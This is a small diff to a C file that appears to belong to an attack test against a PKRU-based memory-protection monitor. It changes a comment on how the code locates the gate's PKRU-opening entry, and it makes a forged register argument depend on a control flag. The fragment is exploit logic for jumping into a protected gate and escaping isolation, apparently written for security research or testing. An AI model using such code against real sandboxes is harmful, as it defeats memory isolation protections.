@@ -22,8 +22,7 @@ static void landed(void)
 	_exit(ATTACK_SUCCESS);
 }
 
-/* The monitor stores this address as handler of SIGUSR1 ... we cannot see it:
-   the entry begins with the second of three WRPKRU at zeroed registers. */
+/* Whatever opens PKRU in the gate page begins by zeroing three registers. */
 static uint64_t find_entry(int n)
 {
 	const uint8_t *p = (const uint8_t *)env.gate;
@@ -43,7 +42,7 @@ static void jump(void *arg)
 
 	r.rdi = SIGSYS;
 	r.rsi = r.rsp + 304;
-	r.rdx = r.rsp + 8;
+	r.rdx = env.control ? 0 : r.rsp + 8;
 	jump_all(&r);
 }
 
